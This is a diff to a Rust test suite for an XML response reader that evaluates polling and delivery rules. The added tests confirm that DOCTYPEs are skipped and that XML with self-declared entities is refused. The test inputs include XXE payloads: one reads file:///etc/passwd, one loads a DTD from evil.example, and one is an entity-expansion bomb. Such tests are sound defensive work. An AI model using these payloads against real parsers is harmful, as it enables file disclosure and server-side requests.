@@ -80,16 +80,69 @@ fn case_a2_fields_of_xml_are_found_by_their_paths() {
 }
 
 #[test]
-fn case_a2_xml_that_is_broken_large_or_has_a_document_type_has_no_fields() {
-    let entities = "<!DOCTYPE a [<!ENTITY b \"boom\">]><a>&b;</a>";
+fn case_a2_xml_that_is_broken_or_large_has_no_fields() {
+    let late = "<a><!DOCTYPE a></a>";
     let deep = |depth: usize| format!("{}x{}", "<a>".repeat(depth), "</a>".repeat(depth));
     let wide = format!("<a{}/>", " b=\"\"".repeat(200_001));
-    for body in [entities, "<a>&b;</a>", "<a>", "<a></b>", "</a>", "<a/><b/>", "<a/>text", "<a", &deep(64), &wide] {
+    for body in [
+        late,
+        "<a/><!DOCTYPE a>",
+        "<!DOCTYPE a><a>&b;",
+        "<!DOCTYPE a",
+        "<!DOCTYPE a>",
+        "<a>",
+        "<a></b>",
+        "</a>",
+        "<a/><b/>",
+        "<a/>text",
+        "<a",
+        &deep(64),
+        &wide,
+    ] {
         let answer = answer(200, body);
         assert!(matches!(answer.read(), Body::Text), "{}", &body[..body.len().min(80)]);
         assert_eq!(answer.field(&"a".parse().unwrap()), None);
     }
     check_field(&deep(63), &vec!["a"; 63].join("."), Some("x"));
+}
+
+#[test]
+fn case_a2_a_document_type_is_passed_over() {
+    check_field("<!DOCTYPE a><a><b>x</b></a>", "a.b", Some("x"));
+    let lead = "<?xml version=\"1.0\"?>\n<!DOCTYPE response SYSTEM \"http://production.leadconduit.com/ap/dtd/response.dtd\">\n\
+                <response><result>success</result><reason/></response>";
+    check_field(lead, "response.result", Some("success"));
+    check_field("<!DOCTYPE a [<!ELEMENT a (#PCDATA)><!-- > --> ]><a>x &amp; &#121;</a>", "a", Some("x & y"));
+    let html = "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>";
+    check_field(html, "html", Some(""));
+}
+
+#[test]
+fn case_a2_xml_with_entities_of_its_own_is_unreadable_and_said_to_be() {
+    let why = "the body is XML with entities of its own, which are not read";
+    let laughs = "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><r><status>&b;</status></r>";
+    for body in [
+        laughs,
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><status>&x;</status></r>",
+        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><r><status>pending</status></r>",
+        "<!DOCTYPE r [<!ENTITY x \"pending\">]><r><status>pending</status></r>",
+        "<!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\"><r><status>&pending;</status></r>",
+        "<r><status>&nbsp;pending</status></r>",
+        "<r id=\"&x;\"><status>pending</status></r>",
+    ] {
+        check_field(body, "r.status", None);
+        let when = json!({"source": "body", "key": "r.status", "operator": "equals", "value": "pending"});
+        let polls = json!({"rules": [{"when": [when], "then": "pending"}]});
+        let Judgement { verdict, reason, notes, .. } = judge(&polls, &answer(200, body));
+        assert_eq!((verdict, reason.as_deref()), (Verdict::Retry, Some(why)), "{body}");
+        assert_eq!(notes, [format!("{why}; 1 condition found nothing")]);
+        let sets = json!({"rules": [{"when": [{"operator": "always"}], "then": "delivered", "set": {"external_id": "{body.r.status}"}}]});
+        let Judgement { told, notes, .. } = judge(&sets, &answer(200, body));
+        assert_eq!((told.external_id, notes), (None, vec![format!("{why}; set found nothing")]), "{body}");
+        let by_text =
+            json!({"rules": [{"when": [{"source": "body", "operator": "string_contains", "value": "<r"}], "then": "failed"}]});
+        assert_eq!(judge(&by_text, &answer(200, body)), Judgement { rule: Some(0), ..Judgement::of(Verdict::Failed) });
+    }
 }
 
 #[test]
@@ -114,7 +167,7 @@ fn case_a3_a_path_into_a_body_may_begin_with_a_position() {
 proptest! {
     #[test]
     fn case_a2_any_xml_like_body_is_read(parts in prop::collection::vec(prop::sample::select(vec![
-        "<a>", "</a>", "<b c='1'/>", "<b", "&amp;", "&#0;", "&x;", "<![CDATA[", "]]>", "<?p?>", "<!--", "-->", "t", "<", ">", "\"", "é", "<!DOCTYPE a>",
+        "<a>", "</a>", "<b c='1'/>", "<b", "&amp;", "&#0;", "&x;", "<![CDATA[", "]]>", "<?p?>", "<!--", "-->", "t", "<", ">", "\"", "é", "<!DOCTYPE a>", "<!DOCTYPE a [", "<!ENTITY b 'c'>", "]>",
     ]), 0..20)) {
         let body = parts.concat();
         answer(200, &body).field(&"a.b.@c".parse().unwrap());
@@ -204,7 +257,8 @@ fn case_a7_a_rule_that_polls_is_not_ended_by_a_body_that_can_not_be_read() {
     for (body, why) in [
         ("<div>A PHP Error was encountered</div>{\"status\":\"pending\"}", text),
         ("<div class=\"e\">A PHP Error</div>\n{\"status\":\"pending\"}", text),
-        ("<!DOCTYPE html><html><body>502</body></html>", text),
+        ("<!DOCTYPE html><html><body>502</body></html>", xml),
+        ("<!DOCTYPE html><html><body>502<br></body></html>", text),
         ("<html><body>Busy</body></html>", xml),
         ("{\"status\":\"pen", text),
         ("\"{\\\"status\\\":\\\"pending\\\"}\"", scalar),
